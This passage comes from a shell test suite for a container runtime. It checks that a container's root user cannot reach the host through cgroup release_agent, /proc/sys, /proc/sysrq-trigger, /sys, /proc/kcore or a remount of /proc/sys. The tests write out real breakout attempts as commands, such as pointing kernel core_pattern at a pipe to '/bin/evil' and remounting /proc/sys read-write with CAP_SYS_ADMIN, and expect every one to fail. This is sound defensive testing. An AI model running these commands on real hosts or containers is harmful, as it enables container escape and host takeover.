	# Without a cgroup namespace a fresh mount would show the host's whole
	# hierarchy, release_agent included: there the profile is all that
	# stands in the way of CAP_SYS_ADMIN.
	for ns in with without; do
		[ "$ns" = with ] || update_config '.linux.namespaces |= map(select(.type != "cgroup"))'
		run brig run "$CID-$ns"
		echo "$output"
		[ "$status" -eq 0 ]
		[ "$(grep -ciE "operation not permitted|permission denied" <<<"$output")" -eq 2 ]
		[ "${lines[-1]}" = end ]
	done
	assert_host_target_untouched
	[ "$(release_agents)" = "$(cat "$BATS_TEST_TMPDIR/release_agents")" ]
}

# --------------------------------------------------- /proc and /sys ----

@test "/proc/sys, /proc/sysrq-trigger and /sys refuse writes from the container's root" {
	local core
	core=$(cat /proc/sys/kernel/core_pattern)
	set_args sh -c '
		echo "|/bin/evil" >/proc/sys/kernel/core_pattern && echo core_pattern
		echo 3 >/proc/sys/vm/drop_caches && echo drop_caches
		echo h >/proc/sysrq-trigger && echo sysrq
		echo 1 >/sys/kernel/mm/ksm/run && echo ksm
		echo x >/sys/fs/cgroup/cgroup.procs && echo cgroup
		mkdir /proc/sys/x && echo mkdir
		cat /proc/kcore | head -c 1 | wc -c
		echo end'
	run brig run "$CID"
	echo "$output"
	[ "$(squeeze "$output" | sed 's/ .*: / /g')" != "" ]
	[ "${lines[-1]}" = end ]
	[ "${lines[-2]}" = 0 ]
	for what in core_pattern drop_caches sysrq ksm cgroup mkdir; do
		refute grep -qx "$what" <<<"$output"
	done
	[ "$(cat /proc/sys/kernel/core_pattern)" = "$core" ]
}

@test "/proc/sys stays read-only after the container's root remounts what it may" {
	# Even with CAP_SYS_ADMIN granted, the default seccomp profile keeps the
	# container from remounting /proc/sys read-write.
	update_config '.linux.seccomp = $p[0]' --slurpfile p "${top_srcdir:-$BATS_TEST_DIRNAME/../..}/seccomp-profiles/default.json"
	update_config '.process.capabilities |= with_entries(.value += ["CAP_SYS_ADMIN"])'
	set_args sh -c '{ mount -o remount,rw /proc/sys && echo remounted; echo "|/bin/evil" >/proc/sys/kernel/core_pattern && echo wrote; } 2>/dev/null; echo end'
	local core
	core=$(cat /proc/sys/kernel/core_pattern)
	run brig run "$CID"
	[ "$output" = end ]
	[ "$(cat /proc/sys/kernel/core_pattern)" = "$core" ]
}
